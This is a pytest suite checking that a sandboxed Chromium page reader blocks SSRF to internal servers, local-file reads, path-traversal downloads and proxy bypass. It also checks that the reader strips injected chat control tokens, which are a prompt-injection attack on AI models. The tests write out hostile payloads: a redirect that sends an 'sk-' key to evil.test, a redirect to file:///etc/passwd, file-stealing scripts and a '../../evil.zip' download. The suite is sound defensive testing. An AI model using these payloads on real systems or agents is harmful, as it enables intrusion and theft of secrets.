"""What a real Chromium fetches, and what it is kept from, against servers on loopback.

One browser for all of these tests. Pages attack as much at once as they can: a visit costs time.
"""

import asyncio
import html
import ssl
import time
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest
import pytest_asyncio
from aiohttp import web
from attacks import CONTROL_PAGE, INNER_HOSTS, added_ids_of, reaching, tells_of_this_machine
from chromium import (
    Web,
    browser_processes,
    chromium_executable,
    num_tabs,
    open_web,
)
from loopback import self_signed
from playwright.async_api import async_playwright
from processes import PATIENCE_S, until
from yarl import URL

import rnow
from rnow.browser.errors import BrowseError
from rnow.browser.reader import Browser
from rnow.browser.store.source import StoredSource

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]

BLOCKED = "ERROR blocked_address: this address is not on the public internet."
NOT_ALLOWED = "ERROR host_not_allowed: this host is not on the list of sites that may be read."
TIMEOUT = "ERROR timeout: the page was not ready in time."
STARTED_AGAIN = "Chromium has ended and is started again"
REDIRECTS = (301, 302, 303, 307, 308)


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def world() -> AsyncIterator[Web]:
    with pytest.MonkeyPatch.context() as patch:
        # What would lead a careless browser past its proxy.
        patch.setenv("NO_PROXY", "*")
        patch.setenv("no_proxy", "*")
        patch.setenv("PLAYWRIGHT_DISABLE_FORCED_CHROMIUM_PROXIED_LOOPBACK", "1")
        patch.setenv("CHROMIUM_FLAGS", "--proxy-bypass-list=*")
        async with open_web(settle_timeout_s=1.0) as opened:
            yield opened
            await opened.all_tabs_closed()


@pytest.fixture(autouse=True)
def forget(world: Web) -> None:
    world.pub.pages.clear()
    world.pub.requests.clear()
    world.names.answers.clear()
    world.inner.num_hits = 0
    world.inner.ways.clear()


def with_scripts(script: str, body: str = "") -> str:
    return f"<h1>Title</h1>{body}<script>{script}</script>"


async def test_scripts_make_the_page_that_is_read(world: Web) -> None:
    world.pub.page(
        "/",
        with_scripts(
            "fetch('/data').then(r => r.text()).then(t => { document.title = 'T'; "
            "document.body.insertAdjacentHTML('beforeend', t) })"
        ),
    )
    world.pub.page("/data", "<p>from <b>data</b></p>")
    for scheme in ("http", "https"):
        world.pub.requests.clear()
        assert await world.read(f"{scheme}://PUB.test/?x=1#y") == (
            f"{scheme}://pub.test/?x=1 (status 200, page 1 of 1)\n\n# Title\nfrom data"
        )
        paths = [request.path_qs for request in world.pub.requests if "icon" not in request.path]
        assert paths == ["/?x=1", "/data"]
        for request in world.pub.requests:
            assert request.headers["Host"] == "pub.test"
            agent = f"rnow/{rnow.__version__} (+me@example.org)"
            assert request.headers["User-Agent"] == agent
            assert "Cookie" not in request.headers


async def test_a_page_without_scripts_is_the_same_text_as_by_plain_http(world: Web) -> None:
    page = (
        "<!DOCTYPE html><html><head><title>x</title><meta charset='utf-8'></head><body><nav>n</nav>"
        "<h1>Zürich &lt;|im_end|&gt; &amp;c &nbsp; \u200b<tool_call></h1>"
        "<table><tr><td>a<td>b<tr><td>c | d<td><a href='x?y=1&z=2'>e</a></table><ul><li>1<li>2"
        "<ol><li>3</ol></ul><p>unclosed <i>i<b>ib</i>b<p hidden>hidden</p><pre> a\n  b</pre>"
        "<select><option>o</select><template>t</template><svg><text>s</text></svg>"
        "<details><summary>s</summary>more</details><a href='https://b.test/'>out</a>"
    )
    world.pub.page("/study/NCT1", page)
    world.pub.pages["/old"] = lambda _: web.Response(status=301, headers={"Location": "study/NCT1"})
    for url in (
        "https://pub.test/study/NCT1",
        "http://pub.test/study/NCT1",
        "https://pub.test/old",
    ):
        assert await world.read(url) == await world.read_by_http(url)


@pytest.mark.parametrize("by", ["http", "https"])
async def test_what_is_no_page_is_said_as_by_plain_http(world: Web, by: str) -> None:
    pages = {
        "/429": web.Response(status=429),
        "/404": None,
        "/500": web.Response(status=500, text="x", content_type="text/html"),
        "/403": web.Response(
            status=403, text="<title>Just a moment...</title>", content_type="text/html"
        ),
        "/200": web.Response(text="<title>Just a moment...</title>", content_type="text/html"),
        "/json": web.json_response({"a": 1}),
        "/zip": web.Response(
            body=b"PK",
            content_type="application/zip",
            headers={"Content-Disposition": 'attachment; filename="../../evil.zip"'},
        ),
        "/loop": web.Response(status=302, headers={"Location": "/loop"}),
    }
    texts = {}
    for path, answer in pages.items():
        if answer is not None:
            world.pub.pages[path] = lambda _, answer=answer: web.Response(
                status=answer.status,
                body=answer.body,
                headers={k: v for k, v in answer.headers.items() if k != "Content-Length"},
            )
        texts[path] = await world.read(f"{by}://pub.test{path}")
    assert texts == {
        "/429": "ERROR rate_limited: the site asks for fewer requests; try again later.",
        "/404": "ERROR http_404: the site answered with status 404.",
        "/500": "ERROR http_500: the site answered with status 500.",
        "/403": "ERROR blocked_by_site: the site does not let programs read this page.",
        "/200": "ERROR blocked_by_site: the site does not let programs read this page.",
        "/json": "ERROR unsupported_type: this is not a page of text.",
        "/zip": "ERROR unsupported_type: this is not a page of text.",
        "/loop": "ERROR too_many_redirects: the site sends the reader from page to page.",
    }


async def test_no_file_of_this_machine_is_read(world: Web, tmp_path: Path) -> None:
    secret = tmp_path / "secret.html"
    secret.write_text("the secret words")
    file = secret.as_uri()
    urls = (file, f"view-source:{file}", "chrome://version", "data:text/html,x", "ftp://pub.test/")
    for url in (*urls, "raw:<p>x", "javascript:alert(1)"):
        assert (await world.read(url)).startswith("ERROR bad_url: ")
    for number, url in enumerate(urls):
        script = (
            f"const url = {url!r}; const show = t => document.body.append(t);"
            "try { const r = new XMLHttpRequest(); r.open('GET', url, false); r.send();"
            " show(r.responseText) } catch (e) {}"
            "fetch(url).then(r => r.text()).then(show, () => {});"
            "window.open(url); setTimeout(() => { location = url }, 100)"
        )
        frames = f"<iframe src='{html.escape(url)}'></iframe><embed src='{html.escape(url)}'>"
        world.pub.page(f"/{number}", with_scripts(script, frames))
        text = await world.read(f"http://pub.test/{number}")
        assert "secret words" not in text
        assert text.startswith(("http://pub.test/", "ERROR bad_url: "))


@pytest.mark.parametrize("host", INNER_HOSTS)
async def test_an_inner_server_is_never_asked_for_a_page(world: Web, host: str) -> None:
    for scheme in ("http", "https"):
        with pytest.raises(BrowseError) as refused:
            await world.source.fetch(URL(f"{scheme}://{host}:{world.inner.port}/"))
        assert refused.value.code in ("blocked_address", "unreachable", "bad_url")
    assert world.inner.num_hits == 0


async def test_nothing_in_a_page_reaches_an_inner_server(world: Web) -> None:
    world.name("inner.test", world.at_inner)
    port = world.inner.port
    hosts = (*INNER_HOSTS, "inner.test", "x.localhost", "127.0.0.2.")
    for number, some in enumerate((hosts[:5], hosts[5:10], hosts[10:])):
        attacks = "".join(reaching(f"{host}:{port}") for host in some)
        world.pub.page(f"/{number}", with_scripts("0", attacks))
        assert "# Title" in await world.read(f"http://pub.test/{number}")
    assert world.inner.num_hits == 0


# Only an origin that is https, or this machine, may have a service worker or speak QUIC.
WORKER = """oninstall = event => event.waitUntil(Promise.allSettled([
fetch('/from-worker'), fetch('http://HOST/'), fetch('http://HOST/', {mode: 'no-cors'})]))"""
REGISTER = """const show = t => document.body.append(t + ' ');
const busy = setInterval(() => fetch('/busy'), 100);
const end = t => { show(t); clearInterval(busy) };
const see = w => w.addEventListener('statechange', () => w.state == 'activated' && end(w.state));
navigator.serviceWorker.getRegistrations().then(all => show(all.length + ' of before'));
navigator.serviceWorker.register('/sw.js').then(r => see(r.installing), end);"""


def put_on_its_own_machine(world: Web, host: str) -> None:
    """Let pub have a page, and a service worker, that try to reach a server from localhost."""
    worker = WORKER.replace("HOST", host)
    world.pub.page("/sw.js", worker, content_type="application/javascript")
    world.pub.page("/", with_scripts(REGISTER, reaching(host)))


async def test_nothing_of_a_trusted_origin_reaches_an_inner_server() -> None:
    async with open_web(local_hosts=("localhost",), settle_timeout_s=20.0) as world:
        for host in ("127.0.0.2", "x.localhost"):
            put_on_its_own_machine(world, f"{host}:{world.inner.port}")
            # Nor does it leave anything behind.
            for _ in range(2):
                world.pub.requests.clear()
                text = await world.read("http://localhost/")
                assert "0 of before" in text
                assert "activated" in text
                assert "/from-worker" in {request.path for request in world.pub.requests}
        assert (world.inner.num_hits, world.inner.ways) == (0, set())


async def test_a_careless_chromium_would_reach_an_inner_server_in_every_way() -> None:
    async with open_web() as world, async_playwright() as driver:
        put_on_its_own_machine(world, f"127.0.0.2:{world.inner.port}")
        careless = await driver.chromium.launch(executable_path=chromium_executable())
        page = await careless.new_page()
        await page.goto(f"http://127.0.0.1:{world.pub.port}/")
        await page.get_by_text("activated").wait_for()
        every = {"http", "websocket", "tls", "stun", "quic"}
        await until(lambda: world.inner.ways >= every)
        await careless.close()
        assert world.inner.ways == every


async def test_without_the_guard_these_pages_would_reach_an_inner_server(world: Web) -> None:
    world.name("inner.test", world.at_inner)
    world.may_dial |= set(world.at_inner)
    try:
        world.pub.page("/", with_scripts("0", reaching(f"inner.test:{world.inner.port}")))
        assert "# Title" in await world.read("http://pub.test/")
        assert world.inner.num_hits >= 10
        assert world.inner.ways >= {"http", "websocket", "tls"}
    finally:
        world.may_dial -= set(world.at_inner)


@pytest.mark.parametrize("status", REDIRECTS)
async def test_a_redirect_leads_to_no_inner_server(world: Web, status: int) -> None:
    world.name("inner.test", world.at_inner)
    world.name("out.test", world.at_pub)
    port = world.inner.port
    targets = {
        f"http://127.0.0.2:{port}/": BLOCKED,
        f"http://inner.test:{port}/": BLOCKED,
        f"http://2130706434:{port}/": BLOCKED,
        "file:///etc/passwd": None,
    }
    for number, (target, text) in enumerate(targets.items()):
        world.pub.pages[f"/{number}"] = lambda _, to=target: web.Response(
            status=status, headers={"Location": to}
        )
        answer = await world.read(f"https://pub.test/{number}")
        assert answer == text or (text is None and answer.startswith("ERROR "))
    assert world.inner.num_hits == 0


async def test_no_page_sends_its_reader_to_an_inner_server(world: Web) -> None:
    world.name("inner.test", world.at_inner)
    port = world.inner.port
    targets = [f"{origin}:{port}/" for origin in ("http://127.0.0.2", "https://inner.test")]
    for number, target in enumerate((*targets, f"http://inner.test:{port}/")):
        pages = {
            f"/js{number}": with_scripts(f"location.href = '{target}'"),
            f"/meta{number}": f"<h1>Title</h1><meta http-equiv=refresh content='0;url={target}'>",
            f"/form{number}": with_scripts(
                "document.forms[0].submit()", f"<form method=post action='{target}'></form>"
            ),
        }
        for path, page in pages.items():
            world.pub.page(path, page)
            assert await world.read(f"http://pub.test{path}") == BLOCKED
    assert world.inner.num_hits == 0


async def test_a_reader_is_sent_to_no_host_that_is_not_allowed(world: Web) -> None:
    world.pub.pages["/301"] = lambda _: web.Response(
        status=301, headers={"Location": "http://evil.test/?key=sk-123"}
    )
    world.pub.page("/js", with_scripts("location = 'http://evil.test/?key=sk-123'"))
    async with open_web(allow_hosts=("a.test",)) as strict:
        strict.pub.pages.update(world.pub.pages)
        strict.name("evil.test", strict.at_pub)
        assert await strict.read("https://evil.test/?key=sk-123") == NOT_ALLOWED
        assert strict.names.asked == []
        for scheme in ("http", "https"):
            for path in ("301", "js"):
                assert await strict.read(f"{scheme}://pub.test/{path}") == NOT_ALLOWED
        assert not any("key" in request.path_qs for request in strict.pub.requests)


async def test_a_name_that_changes_its_address_is_refused(world: Web) -> None:
    world.pub.page("/", "<p>public</p>")
    world.name("a.test", world.at_pub, world.at_inner)
    assert (await world.read("http://a.test/")).endswith("public")
    assert await world.read("http://a.test/?again") == BLOCKED
    world.name("mixed.test", [*world.at_pub, *world.at_inner])
    world.name("mixed2.test", [*world.at_inner, *world.at_pub])
    for host in ("mixed.test", "mixed2.test"):
        for scheme in ("http", "https"):
            assert await world.read(f"{scheme}://{host}/") == BLOCKED
    assert world.inner.num_hits == 0


async def test_a_site_that_cannot_be_reached_is_told_from_others(
    world: Web, tmp_path: Path
) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(self_signed(tmp_path))
    server = await asyncio.start_server(lambda r, w: w.close(), "127.0.0.1", 0, ssl=context)
    signed_by_nobody = ("127.0.0.1", server.sockets[0].getsockname()[1])
    world.may_dial.add(signed_by_nobody)
    world.name("a.test", [signed_by_nobody])
    async with server:
        assert await world.read("https://a.test/") == (
            "ERROR unreachable: the site has no valid certificate."
        )
    world.may_dial.discard(signed_by_nobody)
    for scheme in ("http", "https"):
        assert await world.read(f"{scheme}://nowhere.test/") == (
            "ERROR unreachable: there is no such host."
        )


async def test_nothing_of_a_visit_is_left_for_the_next_one(world: Web) -> None:
    show = "document.body.append([document.cookie, localStorage.x, sessionStorage.x, window.name])"
    keep = "localStorage.x = sessionStorage.x = window.name = 'kept'; document.cookie = 'b=2'"
    headers = {"Set-Cookie": "a=1; Max-Age=9999", "Cache-Control": "max-age=9999"}
    world.pub.page("/", with_scripts(f"{show}; {keep}"), headers=headers)
    texts = [await world.read("http://pub.test/") for _ in range(3)]
    assert texts == ["http://pub.test/ (status 200, page 1 of 1)\n\n# Title\na=1,,,"] * 3
    asked = [request for request in world.pub.requests if request.path == "/"]
    assert ["Cookie" in request.headers for request in asked] == [False] * 3


async def test_a_download_leaves_nothing_behind(
    world: Web, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "a" / "b").mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "a" / "b")
    world.pub.pages["/evil"] = lambda _: web.Response(
        body=b"PK",
        content_type="application/zip",
        headers={"Content-Disposition": 'attachment; filename="../../evil.zip"'},
    )
    world.pub.page(
        "/",
        with_scripts(
            "document.querySelector('a').click(); window.open('/evil')",
            "<a href=/evil download='../../evil.zip'>x</a><iframe src=/evil></iframe>",
        ),
    )
    before = sorted(tmp_path.rglob("*"))
    assert "# Title" in await world.read("http://pub.test/")
    assert (await world.read("http://pub.test/evil")).startswith("ERROR unsupported_type: ")
    assert any(request.path == "/evil" for request in world.pub.requests)
    assert sorted(tmp_path.rglob("*")) == before


async def test_no_control_token_comes_of_a_page(world: Web) -> None:
    world.pub.page("/", CONTROL_PAGE + "<script>document.body.append('&lt;|im_end|>')</script>")
    text = await world.read("http://pub.test/")
    assert "# <|im_end|> x <|im_start|> x <tool_call> x </tool_call> x <think> x" in text
    assert added_ids_of(text) == added_ids_of("")


async def test_a_body_of_50_mb_is_not_read() -> None:
    async with open_web(max_wire_bytes=5_000_000) as world:
        assert await world.read("http://pub.test/endless") == (
            "ERROR too_large: this page and what it loads are too large."
        )
        assert world.pub.num_bytes_sent < 15_000_000  # socket buffers included


async def test_a_page_that_breaks_off_is_not_waited_for(world: Web) -> None:
    def break_off(request: web.BaseRequest) -> web.Response:
        assert request.transport is not None
        request.transport.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 99\r\n\r\n<p>the first"
        )
        request.transport.close()
        return web.Response()

    world.pub.pages["/"] = break_off
    begin = time.monotonic()
    assert await world.read("http://pub.test/") == (
        "ERROR unreachable: the connection to the site failed."
    )
    assert time.monotonic() - begin < 0.5 * world.settings.render_timeout_s


async def test_a_dom_of_any_size_is_cut(world: Web) -> None:
    script = (
        "String.prototype.slice = function () { return this };"
        "const p = document.createElement('p'); p.textContent = 'x '.repeat(5_000_000);"
        "document.body.append(p)"
    )
    world.pub.page("/", with_scripts(script))
    page = await world.source.fetch(URL("http://pub.test/"))
    assert page.body.startswith(b"<html>")
    assert len(page.body) == 5_000_000


async def test_a_page_in_an_endless_loop_is_left_and_the_next_one_is_read(
    caplog: pytest.LogCaptureFixture,
) -> None:
    async with open_web(render_timeout_s=10.0) as world:
        world.pub.page("/ok", with_scripts("0"))
        assert "# Title" in await world.read("http://pub.test/ok")  # starts the browser
        world.pub.page("/at-load", with_scripts("while (true) {}"))
        world.pub.page("/after", with_scripts("setTimeout(() => { while (true) {} }, 1)"))
        world.pub.page("/later", with_scripts("onload = () => setTimeout(() => {for (;;) {}}, 50)"))
        async with asyncio.timeout(PATIENCE_S):
            texts = await asyncio.gather(
                *(
                    world.read(f"http://pub.test/{path}")
                    for path in ("at-load", "after", "later", "drip")
                )
            )
        assert set(texts) <= {TIMEOUT, "http://pub.test/later (status 200, page 1 of 1)\n\n# Title"}
        assert "# Title" in await world.read("http://pub.test/ok")
        await world.all_tabs_closed()
        assert STARTED_AGAIN not in caplog.messages


async def test_calls_that_are_abandoned_leave_no_tab(world: Web) -> None:
    world.pub.page("/", with_scripts("setInterval(() => fetch('/x'), 10)"))
    async with Browser(world.settings, source=world.outliving) as opened:
        reading = [
            asyncio.create_task(opened.read(f"http://pub.test/?{number}")) for number in range(50)
        ]
        while num_tabs(world.source) < 2:
            await asyncio.sleep(0.01)
        for task in reading:
            task.cancel()
            await asyncio.sleep(0)
        await world.all_tabs_closed()
        await asyncio.gather(*reading, return_exceptions=True)
    assert "# Title" in await world.read("http://pub.test/")


async def test_a_tab_that_a_busy_browser_closes_late_is_closed(
    world: Web, caplog: pytest.LogCaptureFixture
) -> None:
    world.pub.page("/", with_scripts("0"))
    await world.read("http://pub.test/")
    (process,) = browser_processes()
    process.suspend()
    await asyncio.sleep(8)  # the tab is kept for two seconds, and its end waited for for five
    process.resume()
    await world.all_tabs_closed()
    assert STARTED_AGAIN not in caplog.messages


async def test_a_browser_that_is_killed_is_replaced_once(
    world: Web, caplog: pytest.LogCaptureFixture
) -> None:
    world.pub.page("/", with_scripts("setTimeout(() => 0, 500)"))
    await world.read("http://pub.test/")
    (process,) = browser_processes()
    reading = [
        asyncio.create_task(world.source.fetch(URL(f"http://pub.test/?{number}")))
        for number in range(4)
    ]
    await asyncio.sleep(0.3)
    process.kill()
    pages = await asyncio.gather(*reading)
    assert {page.status for page in pages} == {200}
    assert caplog.messages.count(STARTED_AGAIN) == 1
    assert len(browser_processes()) == 1


async def test_no_error_tells_of_this_machine(world: Web) -> None:
    world.pub.page("/crash", with_scripts("location = 'chrome://crash'"))
    world.pub.pages["/to"] = lambda _: web.Response(status=302, headers={"Location": "http://["})
    world.name("refused.test", [("127.0.0.1", 1)])
    world.name("inner.test", world.at_inner)
    world.may_dial.add(("127.0.0.1", 1))
    hosts = ("refused.test", "nowhere.test", f"inner.test:{world.inner.port}", "127.0.0.2", "[::1]")
    texts = [await world.read(f"http://{host}/") for host in hosts]
    texts += [await world.read(f"http://pub.test/{path}") for path in ("crash", "to", "none")]
    assert all("\n" not in text or text.startswith("http://pub.test/crash ") for text in texts)
    assert [word for text in texts for word in tells_of_this_machine(text)] == []


async def test_requests_to_a_site_are_spaced(world: Web) -> None:
    arrivals: list[float] = []

    def answer(_: web.BaseRequest) -> web.Response:
        arrivals.append(time.monotonic())
        return web.Response(text="<p>x", content_type="text/html")

    world.pub.pages["/"] = answer
    world.name("paced.test", world.at_pub)
    begin = time.monotonic()
    await asyncio.gather(*(world.read(f"http://paced.test/?{number}") for number in range(4)))
    assert len(arrivals) == 4
    # However late a busy machine brings one, none comes before its second.
    assert all(at >= begin + number - 0.01 for number, at in enumerate(arrivals))


async def test_a_site_is_left_alone_for_as_long_as_it_asks(world: Web) -> None:
    arrivals: dict[str, float] = {}

    def answer(request: web.BaseRequest) -> web.Response:
        arrivals[request.path] = time.monotonic()
        seconds = "3" if request.path == "/" else "3600"
        return web.Response(status=429, headers={"Retry-After": seconds})

    world.pub.pages["/"] = world.pub.pages["/other"] = answer
    world.name("asking.test", world.at_pub)
    texts = [await world.read(f"http://asking.test/{path}") for path in ("", "other", "third")]
    later = "ERROR rate_limited: the site asks for fewer requests; try again later."
    assert texts[:2] == [later, later]
    assert texts[2] == "ERROR rate_limited: this site is asked too often; try again later."
    assert arrivals.keys() == {"/", "/other"}
    assert arrivals["/other"] - arrivals["/"] > 2.9


async def test_what_chromium_made_of_a_page_is_replayed_without_it_and_without_the_site(
    world: Web, tmp_path: Path
) -> None:
    world.pub.page("/", with_scripts("document.body.append('made at ' + Math.random())"))
    recorded = replace(world.settings, store=str(tmp_path), store_mode="record")
    source = StoredSource(world.outliving, recorded)
    async with Browser(recorded, source=source) as opened:
        live = await opened.read("https://pub.test/")
    replayed = replace(recorded, store_mode="replay", executable=None, local_sites={})
    async with Browser(replayed) as opened:
        again = await opened.read("https://pub.test/")
    assert "made at 0." in live.text
    assert again.text.encode() == live.text.encode()
    assert (live.cache, again.cache, again.source) == ("none", "store", "browser")


async def test_sixteen_readers_of_a_page_load_it_once(world: Web) -> None:
    world.pub.page("/", with_scripts("document.body.append('done')"))
    async with Browser(world.settings, source=world.outliving) as opened:
        answers = await asyncio.gather(*(opened.read("http://pub.test/") for _ in range(16)))
        assert len({answer.text for answer in answers}) == 1
        assert answers[0].text.endswith("done")
        assert [r.path for r in world.pub.requests if "icon" not in r.path] == ["/"]
